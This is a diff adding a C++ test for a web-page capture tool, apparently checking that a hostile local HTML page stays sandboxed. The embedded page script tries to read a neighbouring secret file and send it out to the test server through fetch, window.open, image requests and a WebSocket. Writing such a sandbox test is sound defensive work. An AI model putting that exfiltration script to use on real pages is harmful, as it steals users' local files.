@@ -7,6 +7,7 @@
 
 #include <QCoreApplication>
 #include <QDir>
+#include <QFile>
 #include <QImage>
 #include <QProcess>
 #include <QRegularExpression>
@@ -274,4 +275,51 @@ TEST(CaptureCommand, ATerminalSeesOneProgressLinePerCapture) {
         EXPECT_TRUE(line.startsWith(QLatin1Char('\r')) &&
                     line.endsWith(QLatin1String("tall.html: 3000 / 3000 rows")))
             << line.toStdString();
+}
+
+// A local page that asks for dialogs, reads the file beside it and tries to send it out: the
+// capture goes on without a word, the page shows its own picture and style sheet, reads
+// nothing and reaches nothing. The second capture, from the server, comes after every request
+// the first page made.
+TEST(CaptureCommand, AHostileLocalPageIsCapturedAndKeptInItsBox) {
+    TestHttpServer server;
+    server.AddFile("/after.html", "after", "text/html");
+    QTemporaryDir dir;
+    const auto write = [&](const char* name, const QByteArray& data) {
+        QFile file(dir.filePath(QString::fromUtf8(name)));
+        return file.open(QIODevice::WriteOnly) && file.write(data) == data.size();
+    };
+    QImage red(40, 40, QImage::Format_RGB32);
+    red.fill(qRgb(255, 0, 0));
+    ASSERT_TRUE(red.save(dir.filePath(QStringLiteral("red.png"))));
+    ASSERT_TRUE(write("secret.txt", "TOP-SECRET"));
+    ASSERT_TRUE(write("style.css", "body{margin:0;background:rgb(0,128,0)}"));
+    const QByteArray out = server.Url(QStringLiteral("")).toUtf8();
+    ASSERT_TRUE(write(
+        "hostile.html",
+        "<!doctype html><link rel=stylesheet href=style.css><img src=red.png "
+        "style=display:block><div id=read style=width:40px;height:40px;background:blue></div>"
+        "<script>alert('a');confirm('b');prompt('c');const out='" +
+            out +
+            "';let got='nothing';try{const x=new XMLHttpRequest();x.open('GET','secret.txt',"
+            "false);x.send();got=x.responseText}catch(e){}"
+            "if(got.includes('SECRET'))document.getElementById('read').style.background='red';"
+            "fetch('secret.txt').then(r=>r.text()).then(t=>window.open(out+'/fetch-exfil?'+t));"
+            "window.open(out+'/open-exfil?'+got);new Image().src=out+'/image-exfil?'+got;"
+            "new WebSocket(out.replace('http','ws')+'/socket-exfil?'+got);</script>"));
+    const ProgramRun run =
+        RunProgram({QStringLiteral("--capture"), dir.filePath(QStringLiteral("hostile.html")),
+                    QStringLiteral("--out"), dir.filePath(QStringLiteral("a.png")),
+                    QStringLiteral("--capture"), server.Url(QStringLiteral("/after.html")),
+                    QStringLiteral("--out"), dir.filePath(QStringLiteral("b.png"))});
+    ASSERT_EQ(run.status, 0) << run.err.toStdString();
+    EXPECT_TRUE(run.out.isEmpty() && run.err.isEmpty()) << run.err.toStdString();
+    QList<QByteArray> requested = server.Requested();
+    requested.removeAll("/favicon.ico"); // the second page's
+    EXPECT_EQ(requested.join(' ').toStdString(), "/after.html");
+    const QImage shot(dir.filePath(QStringLiteral("a.png")));
+    ASSERT_FALSE(shot.isNull());
+    EXPECT_EQ(shot.pixel(20, 20) & 0xFFFFFF, 0xFF0000u) << "the page's own picture";
+    EXPECT_EQ(shot.pixel(20, 60) & 0xFFFFFF, 0x0000FFu) << "the secret was read";
+    EXPECT_EQ(shot.pixel(500, 300) & 0xFFFFFF, 0x008000u) << "the page's own style sheet";
 }
